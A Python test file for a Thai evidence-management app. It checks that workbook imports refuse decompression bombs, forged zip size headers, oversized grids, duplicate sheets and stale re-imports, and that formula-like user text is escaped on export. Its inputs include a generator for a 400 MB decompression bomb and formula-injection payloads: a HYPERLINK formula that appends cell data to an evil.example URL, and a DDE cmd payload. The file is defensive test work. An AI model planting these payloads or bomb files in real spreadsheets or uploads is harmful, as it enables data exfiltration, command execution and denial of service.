"""Hostile workbooks: decompression bombs, sparse grids, formulas in user text, stale re-imports and
twin sheets (issue 14 items 2, 3, 4, 21). Every refusal is in Thai and stores nothing."""

import csv
import io
import time
import tracemalloc
import zipfile

import openpyxl
import pytest
from sqlmodel import select

from evidence.excel.exporter import export_workbook
from evidence.excel.importer import import_file
from evidence.excel.reader import UploadRefused
from evidence.formula_text import escape_formula
from evidence.models import Stakeholder
from evidence.pdpa.formats import csv_bytes
from evidence.services.records import update_record
from reports.evidence_pack import index_csv
from tests.evidence.excel_support import VOC_HEADERS, demo_actor, family_counts, voc_row, workbook

ROW = b'<row><c t="inlineStr"><is><t>VOC-bomb-row-with-some-text</t></is></c></row>'


def _bomb(inflated_mb: int) -> bytes:
    """A real .xlsx (openpyxl's parts) whose VOC sheet inflates to `inflated_mb` MB of rows."""
    base = workbook({"VOC": [VOC_HEADERS]})
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(base)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            if info.filename != "xl/worksheets/sheet1.xml":
                dst.writestr(info, src.read(info))
                continue
            member = zipfile.ZipInfo(info.filename)
            member.compress_type = zipfile.ZIP_DEFLATED
            with dst.open(member, "w", force_zip64=True) as sheet:
                sheet.write(b'<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/'
                            b'spreadsheetml/2006/main"><sheetData>')
                block = ROW * 16_000
                for _ in range(inflated_mb * 1024 * 1024 // len(block) + 1):
                    sheet.write(block)
                sheet.write(b"</sheetData></worksheet>")
    return out.getvalue()


@pytest.fixture(scope="module")
def bomb() -> bytes:
    return _bomb(400)


def test_a_decompression_bomb_is_refused_before_parsing_in_little_time_and_memory(session, demo, bomb):
    planner = demo_actor(session, "planner")
    before = family_counts(session)
    tracemalloc.start()
    began = time.perf_counter()
    with pytest.raises(UploadRefused, match="ขยายแล้ว"):
        import_file(session, planner, data=bomb, filename="bomb.xlsx", enterprise_id=demo, year=2569)
    seconds = time.perf_counter() - began
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert len(bomb) < 25 * 1024 * 1024
    assert seconds < 3 and peak < 64 * 1024 * 1024, (seconds, peak)
    assert family_counts(session) == before


def test_a_workbook_whose_directory_understates_its_sizes_is_still_stopped(monkeypatch):
    from evidence.excel.guard import WorkbookTooLarge, check_workbook_limits
    from evidence.settings import get_settings

    monkeypatch.setenv("SCM_MAX_INFLATED_MB", "2")
    get_settings.cache_clear()
    data = bytearray(_bomb(3))
    # Forge the central directory: every member claims to inflate to 1 KB.
    directory = data.rfind(b"PK\x01\x02")
    while directory != -1:
        data[directory + 24:directory + 28] = (1024).to_bytes(4, "little")
        directory = data.rfind(b"PK\x01\x02", 0, directory)
    with pytest.raises(WorkbookTooLarge, match="ขยายแล้ว|เสียหาย"):
        check_workbook_limits(bytes(data), "forged.xlsx")
    get_settings.cache_clear()


def test_a_sparse_sheet_with_a_far_away_cell_is_refused_for_the_grid_it_would_allocate(session, demo, monkeypatch):
    from evidence.settings import get_settings

    monkeypatch.setenv("SCM_MAX_IMPORT_CELLS", "100000")
    get_settings.cache_clear()
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = "VOC"
    sheet.append(VOC_HEADERS)
    sheet["AZ5000"] = "x"  # 52 columns × 5,000 rows: 260,000 cells for a reader's grid
    out = io.BytesIO()
    book.save(out)
    with pytest.raises(UploadRefused, match="เซลล์"):
        import_file(session, demo_actor(session, "planner"), data=out.getvalue(), filename="sparse.xlsx",
                    enterprise_id=demo, year=2569)
    get_settings.cache_clear()


def test_too_many_rows_are_refused_before_parsing(session, demo, monkeypatch):
    from evidence.settings import get_settings

    monkeypatch.setenv("SCM_MAX_IMPORT_ROWS", "50")
    get_settings.cache_clear()
    data = workbook({"VOC": [VOC_HEADERS, *(voc_row(f"V-{n}") for n in range(80))]})
    with pytest.raises(UploadRefused, match="แถว"):
        import_file(session, demo_actor(session, "planner"), data=data, filename="many.xlsx", enterprise_id=demo,
                    year=2569)
    get_settings.cache_clear()


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"คลิก")', "=cmd|' /C calc'!A0", "+1+1", "@SUM(1)", "-2+3"]


def _stakeholder(session, demo, code: str, name: str) -> None:
    planner = demo_actor(session, "planner")
    unit = session.exec(select(Stakeholder.org_unit_id).where(Stakeholder.enterprise_id == demo)).first()
    from evidence.services.records import create_record

    create_record(session, planner, Stakeholder, {
        "enterprise_id": demo, "year": 2569, "code": code, "group_name": name, "org_unit_id": unit,
        "representative_name": name})
    session.commit()


def test_user_text_that_looks_like_a_formula_is_exported_as_text_and_survives_the_round_trip(session, demo):
    for number, text in enumerate(FORMULAS):
        _stakeholder(session, demo, f"SH-F{number}", text)
    planner = demo_actor(session, "planner")
    data = export_workbook(session, planner, enterprise_id=demo, year=2569)
    book = openpyxl.load_workbook(io.BytesIO(data))
    cells = [c for row in book["ผู้มีส่วนได้ส่วนเสีย"].iter_rows() for c in row if c.value in FORMULAS]
    assert len(cells) == 2 * len(FORMULAS) and {c.data_type for c in cells} == {"s"}  # text, never "f"
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        xml = b"".join(archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/"))
    assert b"<f>" not in xml
    report = import_file(session, planner, data=data, filename="back.xlsx", enterprise_id=demo, year=2569)
    assert report.ok and sum(s.updated for s in report.sheets) == 0, report.problems[:3]
    session.expire_all()
    stored = set(session.exec(select(Stakeholder.group_name).where(Stakeholder.code.like("SH-F%"))).all())
    assert stored == set(FORMULAS)


def test_csv_files_escape_text_starting_like_a_formula():
    assert [escape_formula(t) for t in FORMULAS] == ["'" + t for t in FORMULAS]
    audit = csv_bytes([{"actor": "=cmd|x", "n": -5}], ["actor", "n"]).decode("utf-8-sig")
    assert list(csv.reader(io.StringIO(audit)))[1] == ["'=cmd|x", "-5"]
    pack = index_csv([{"path": "SM1/=HYPERLINK(1).pdf", "name": "@evil.pdf"}]).decode("utf-8-sig")
    row = list(csv.DictReader(io.StringIO(pack)))[0]
    assert row["path"] == "SM1/=HYPERLINK(1).pdf" and row["name"] == "'@evil.pdf"


def test_re_importing_an_older_export_is_refused_for_rows_edited_since(session, demo):
    planner = demo_actor(session, "planner")
    old_export = export_workbook(session, planner, enterprise_id=demo, year=2569)
    record = session.exec(select(Stakeholder).where(Stakeholder.enterprise_id == demo, Stakeholder.year == 2569)).first()
    old_name = record.group_name
    update_record(session, planner, Stakeholder, record.id, expected_version=record.version,
                  changes={"group_name": "ชื่อที่แก้ไขหลังส่งออก"})
    session.commit()
    book = openpyxl.load_workbook(io.BytesIO(old_export))
    sheet = book["ผู้มีส่วนได้ส่วนเสีย"]
    headers = [c.value for c in sheet[1]]
    assert headers[-1].startswith("รุ่นข้อมูล") and sheet.column_dimensions[sheet.cell(1, len(headers)).column_letter].hidden
    report = import_file(session, planner, data=old_export, filename="old.xlsx", enterprise_id=demo, year=2569)
    assert not report.ok
    assert any("มีผู้อื่นบันทึกข้อมูลนี้ก่อนแล้ว" in p.message and "ยังไม่ถูกบันทึก" in p.message for p in report.problems)
    session.expire_all()
    assert session.get(Stakeholder, record.id).group_name == "ชื่อที่แก้ไขหลังส่งออก" != old_name


def test_two_sheets_of_one_family_are_refused(session, demo):
    headers = ["รหัสกลุ่มลูกค้า", "ชื่อกลุ่มลูกค้า"]
    data = workbook({"กลุ่มลูกค้า": [headers, ["SEG-A", "ก"]], "segments": [headers, ["SEG-A", "ข"]]})
    with pytest.raises(UploadRefused, match="ประเภทเดียวกัน"):
        import_file(session, demo_actor(session, "planner"), data=data, filename="twins.xlsx", enterprise_id=demo,
                    year=2569)


def test_refused_uploads_are_refused_in_thai_on_the_server_not_by_the_browser_in_english():
    import ast
    from pathlib import Path

    from evidence.excel.reader import read_upload
    from evidence.services.files import FileRefused, check_upload

    for name, data in (("setup.exe", b"MZ\x90\x00" + b"\x00" * 64), ("page.html", b"<html><script>x</script>")):
        with pytest.raises(FileRefused, match="ไม่ใช่ชนิดที่รับ"):
            check_upload(name, data)
        with pytest.raises(UploadRefused, match="ไม่ใช่ไฟล์ Excel"):
            read_upload(data, name)
    portal = Path(__file__).resolve().parents[2] / "portal"
    for path in portal.rglob("*.py"):
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if isinstance(node, ast.Call) and getattr(node.func, "attr", "") == "file_uploader":
                assert "type" not in {k.arg for k in node.keywords}, f"{path.name}: Streamlit refuses in English"
